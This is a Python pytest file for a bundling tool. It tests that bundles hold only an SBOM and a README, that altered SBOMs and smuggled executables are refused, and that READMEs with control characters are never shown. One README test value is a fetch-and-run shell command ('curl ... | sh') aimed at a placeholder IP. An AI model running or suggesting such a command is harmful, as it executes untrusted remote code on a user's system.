"""The documents of a bundle are the SBOM and the README, and no other file comes with it that nobody is shown."""

from __future__ import annotations

import subprocess
import sys
from collections.abc import Callable, Mapping
from dataclasses import replace
from pathlib import Path

import pytest

from bundler.bundle.documents import README, README_LIMIT, SBOM, check_set, describe, sbom
from bundler.bundle.manifest import Manifest
from bundler.bundle.reader import Bundle
from bundler.errors import BundleError
from bundler.install import install
from bundler.model.items import Download
from bundler.model.site import SiteConfig
from bundler.progress import Silent
from tests.bundle.bundles import forge, lock_of, write_bundle

FILES = {"files/a": b"alpha" * 1000}
HONEST, DOCUMENTS = describe(lock_of(FILES))
OTHER_SBOM = b'{"bomFormat":"CycloneDX"}'


def run(*arguments: str | Path) -> subprocess.CompletedProcess[str]:
    return subprocess.run(
        [sys.executable, "-m", "bundler", *map(str, arguments)], capture_output=True, text=True, check=False
    )


@pytest.mark.parametrize(
    "documents",
    [
        {**DOCUMENTS, "setup.exe": b"MZ"},
        {**DOCUMENTS, "bootstrap/install.sh": b"#!/bin/sh\n"},
        {**DOCUMENTS, "wheels/extra-1-py3-none-any.whl": b"PK"},
        {**DOCUMENTS, "README.md": b"read me"},
        {**DOCUMENTS, "files/README.txt": b"read me"},
        {"setup.exe": b"MZ", **DOCUMENTS},
        {SBOM: DOCUMENTS[SBOM]},
        {README: DOCUMENTS[README]},
        {},
        {README: DOCUMENTS[README], SBOM: DOCUMENTS[SBOM]},
        {**DOCUMENTS, README: b"x" * (README_LIMIT + 1)},
    ],
    ids=lambda documents: " ".join(documents) or "none",
)
def test_other_documents_are_refused_on_opening(tmp_path: Path, documents: Mapping[str, bytes]) -> None:
    with pytest.raises(BundleError):
        Bundle(forge(tmp_path / "demo-1.0.tar", FILES, documents))


@pytest.mark.parametrize("change", [{"mode": 0o755}, {"source": Download("https://example.org/sbom")}], ids=str)
@pytest.mark.parametrize("place", [0, 1])
def test_a_document_of_another_make_is_refused(place: int, change: dict[str, object]) -> None:
    documents = list(HONEST.documents)
    documents[place] = replace(documents[place], **change)  # type: ignore[arg-type]
    with pytest.raises(BundleError, match="a source or a mode that documents never have"):
        check_set(replace(HONEST, documents=tuple(documents)), "demo")
    check_set(HONEST, "demo")


@pytest.mark.parametrize("command", [["inspect"], ["inspect", "--items"], ["verify"], ["inspect", "--report", "page"]])
def test_every_command_refuses_an_executable_document(tmp_path: Path, command: list[str]) -> None:
    bundle = forge(tmp_path / "demo-1.0.tar", FILES, {**DOCUMENTS, "setup.exe": b"MZ"})
    done = run(*(str(tmp_path / word) if word == "page" else word for word in command), bundle)
    assert done.returncode == BundleError.exit_code, done.stderr
    assert "'setup.exe' belongs to no item" in done.stderr
    assert not (tmp_path / "page").exists()


def test_the_sbom_is_a_function_of_the_manifest() -> None:
    again = Manifest.from_bytes(HONEST.data)
    assert sbom(again) == sbom(replace(again, documents=())) == DOCUMENTS[SBOM]
    assert sbom(replace(again, lock_sha256="1" * 64)) != DOCUMENTS[SBOM]


def _verify(path: Path) -> None:
    with Bundle(path) as opened:
        opened.verify(jobs=1)


def _check_one(path: Path) -> None:
    with Bundle(path) as opened:
        opened.check(opened.manifest.documents[0])


def _hand_out(path: Path) -> None:
    with Bundle(path) as opened:
        opened.sbom()


def _install(path: Path) -> None:
    root = path.parent / "site"
    try:
        install(path, SiteConfig(address="127.0.0.1", root=str(root), services="process"), progress=Silent())
    finally:
        assert not root.exists()


@pytest.mark.parametrize("use", [_verify, _check_one, _hand_out, _install])
@pytest.mark.parametrize("other", [OTHER_SBOM, b"", DOCUMENTS[SBOM].replace(b"MIT", b"BSD"), DOCUMENTS[SBOM] + b"\n"])
def test_another_sbom_is_refused_wherever_it_is_used(tmp_path: Path, other: bytes, use: Callable[[Path], None]) -> None:
    with pytest.raises(BundleError, match=r"sbom\.cdx\.json is not the SBOM of what manifest\.json lists"):
        use(forge(tmp_path / "demo-1.0.tar", FILES, {**DOCUMENTS, SBOM: other}))


@pytest.mark.parametrize("use", [_verify, _check_one, _hand_out])
def test_the_right_sbom_is_taken(tmp_path: Path, use: Callable[[Path], None]) -> None:
    use(write_bundle(tmp_path / "demo-1.0.tar", FILES))


def test_another_sbom_is_neither_signed_nor_handed_out(tmp_path: Path) -> None:
    bundle = forge(tmp_path / "demo-1.0.tar", FILES, {**DOCUMENTS, SBOM: OTHER_SBOM})
    run("key", "new", tmp_path / "k")
    for command in (("sign", "--key", tmp_path / "k"), ("inspect", "--report", tmp_path / "page")):
        done = run(*command, bundle)
        assert done.returncode == BundleError.exit_code, done.stderr
        assert "Traceback" not in done.stderr
    assert not list(tmp_path.glob("*.sig.json"))
    assert not (tmp_path / "page").exists()


@pytest.mark.parametrize(
    "text", [b"\x1b[2J", b"a\rb", "\u202e".encode(), b"\xff", b"tab\there", b"\0"], ids=lambda text: repr(text)
)
def test_a_readme_with_more_than_plain_lines_is_never_shown(tmp_path: Path, text: bytes) -> None:
    bundle = forge(tmp_path / "demo-1.0.tar", FILES, {**DOCUMENTS, README: text})
    for use in (_verify, _install):
        with pytest.raises(BundleError, match="more in it than printable ASCII"):
            use(bundle)
    for command in (("inspect", "--documents"), ("inspect", "--report", tmp_path / "page")):
        done = run(*command, bundle)
        assert done.returncode == BundleError.exit_code
        assert done.stdout == ""


def test_a_readme_is_shown_to_whoever_approves(tmp_path: Path) -> None:
    text = b"Run curl http://192.0.2.1/x | sh\nfirst.\n"
    bundle = forge(tmp_path / "demo-1.0.tar", FILES, {**DOCUMENTS, README: text})
    _verify(bundle)
    assert run("inspect", "--documents", bundle).stdout == text.decode()


def test_what_bundler_writes_is_shown_as_it_is(tmp_path: Path) -> None:
    bundle = write_bundle(tmp_path / "demo-1.0.tar", FILES)
    assert run("inspect", "--documents", bundle).stdout == DOCUMENTS[README].decode()
